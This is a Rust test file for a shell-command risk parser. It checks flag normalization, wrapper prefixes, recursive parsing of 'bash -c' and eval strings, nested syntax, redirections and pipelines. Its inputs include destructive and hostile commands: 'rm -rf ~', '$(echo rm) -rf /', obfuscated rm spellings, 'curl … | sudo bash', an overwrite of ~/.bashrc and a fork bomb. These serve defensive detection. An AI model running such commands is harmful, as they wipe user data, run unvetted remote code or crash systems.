//! `risk::parse` (shell parsing plus option normalization): flags, wrappers,
//! nesting and redirections.

use engine::risk::parse;
use engine::shell::{ParseError, RedirectKind, SimpleCommand};

fn parse_commands(script: &str) -> Result<Vec<SimpleCommand>, ParseError> {
    parse(script).map(|script| script.commands)
}

fn one(script: &str) -> SimpleCommand {
    let mut commands = match parse_commands(script) {
        Ok(commands) => commands,
        Err(error) => panic!("{script}: {error}"),
    };
    assert_eq!(commands.len(), 1, "{script}: {commands:?}");
    commands.remove(0)
}

fn flag_names(command: &SimpleCommand) -> Vec<&str> {
    let mut names: Vec<&str> = command.flags.iter().map(|f| f.name.as_str()).collect();
    names.sort_unstable();
    names
}

#[test]
fn rm_flag_spellings_normalize_alike() {
    for script in [
        "rm -rf x",
        "rm -r -f x",
        "rm -fr x",
        "rm --recursive --force x",
        "rm -R --force x",
        r"\rm -rf x",
        "/bin/rm -rf x",
        "/usr/bin/rm -f -r x",
        r#"r""m -rf x"#,
        "'rm' -rf x",
    ] {
        let command = one(script);
        assert_eq!(
            (
                command.program.as_str(),
                flag_names(&command),
                command.args.clone()
            ),
            ("rm", vec!["-f", "-r"], vec!["x".to_owned()]),
            "{script}"
        );
    }
}

#[test]
fn valued_flags_keep_their_values() {
    let command = one("git -C repo commit -am 'fix bug'");
    assert_eq!(command.flag_value("-C"), Some("repo"));
    assert_eq!(command.flag_value("-m"), Some("fix bug"));
    assert_eq!(command.args, vec!["commit".to_owned()]);
    assert_eq!(one("tar xzf a.tgz").flag_value("-f"), Some("a.tgz"));
    assert_eq!(one("sed -i.bak s/a/b/ f").flag_value("-i"), Some(".bak"));
    assert_eq!(one("head -n5 f").flag_value("-n"), Some("5"));
}

#[test]
fn prefixes_are_seen_through() {
    for (script, wrappers) in [
        ("sudo rm -rf x", vec!["sudo"]),
        ("sudo -u root rm -rf x", vec!["sudo"]),
        ("doas rm -rf x", vec!["doas"]),
        ("env FOO=1 rm -rf x", vec!["env"]),
        ("nice -n 10 nohup rm -rf x", vec!["nice", "nohup"]),
        ("timeout -s KILL 5 rm -rf x", vec!["timeout"]),
        ("command rm -rf x", vec!["command"]),
        ("exec rm -rf x", vec!["exec"]),
        ("time builtin rm -rf x", vec!["time", "builtin"]),
    ] {
        let command = one(script);
        assert_eq!(
            (
                command.program.as_str(),
                command
                    .wrapper_names()
                    .map(str::to_owned)
                    .collect::<Vec<_>>()
            ),
            ("rm", wrappers.iter().map(|w| (*w).to_owned()).collect()),
            "{script}"
        );
    }
}

#[test]
fn shell_strings_are_parsed_recursively() {
    for script in [
        "bash -c 'rm -rf ~'",
        "sh -c \"rm -rf ~\"",
        "zsh -lc 'rm -rf ~'",
        "eval 'rm -rf ~'",
        "bash -c \"sh -c 'eval rm -rf ~'\"",
    ] {
        let commands = parse_commands(script).unwrap();
        assert!(
            commands
                .iter()
                .any(|c| c.program == "rm" && c.has_flag("-r") && c.args == ["~"]),
            "{script}: {commands:?}"
        );
    }
}

#[test]
fn nested_syntax_is_descended() {
    for (script, program) in [
        ("ls | xargs rm", "rm"),
        ("find . -exec rm -f {} \\;", "rm"),
        ("echo $(rm -rf x)", "rm"),
        ("echo `rm -rf x`", "rm"),
        ("diff <(rm x) b", "rm"),
        ("(cd x && rm y)", "rm"),
        ("true || { rm y; }", "rm"),
        ("for f in *; do rm $f; done", "rm"),
        ("if true; then rm x; fi", "rm"),
        ("X=$(rm y)", "rm"),
        ("cat <<EOF\n$(rm x)\nEOF", "rm"),
    ] {
        let commands = parse_commands(script).unwrap();
        assert!(
            commands.iter().any(|c| c.program == program),
            "{script}: {commands:?}"
        );
    }
}

#[test]
fn redirections_are_recorded() {
    let command = one("echo hi > out.txt 2>&1");
    assert_eq!(
        command
            .redirects
            .iter()
            .map(|r| (r.kind, r.target.as_str()))
            .collect::<Vec<_>>(),
        vec![
            (RedirectKind::Write, "out.txt"),
            (RedirectKind::Duplicate, "1")
        ]
    );
    assert_eq!(one("cat >> log").redirects[0].kind, RedirectKind::Append);
    assert_eq!(one("ls &> all.log").redirects[0].kind, RedirectKind::Write);
    assert_eq!(one("> ~/.bashrc").redirects[0].target, "~/.bashrc");
    let grouped = parse_commands("{ ls; pwd; } > listing").unwrap();
    assert!(
        grouped
            .iter()
            .all(|c| c.redirects.iter().any(|r| r.target == "listing")),
        "{grouped:?}"
    );
}

#[test]
fn pipelines_record_their_source() {
    let commands = parse_commands("curl -s http://x | sudo bash").unwrap();
    assert_eq!(commands[1].program, "bash");
    assert_eq!(commands[1].upstream, vec!["curl".to_owned()]);
}

#[test]
fn computed_programs_stay_visible() {
    assert_eq!(one("$X foo").program, "$X");
    let commands = parse_commands("$(echo rm) -rf /").unwrap();
    assert!(
        commands.iter().any(|c| c.program.starts_with("$(")),
        "{commands:?}"
    );
}

#[test]
fn fork_bomb_function_calls_itself() {
    let commands = parse_commands(":(){ :|:& };:").unwrap();
    assert!(
        commands
            .iter()
            .any(|c| c.program == ":" && c.in_function.as_deref() == Some(":")),
        "{commands:?}"
    );
}

#[test]
fn syntax_errors_are_rejected() {
    for script in ["echo 'unterminated", "if then fi", "rm -rf (", "ls |"] {
        assert!(
            matches!(
                parse_commands(script),
                Err(ParseError::Syntax(_) | ParseError::Unsupported(_))
            ),
            "{script}"
        );
    }
}
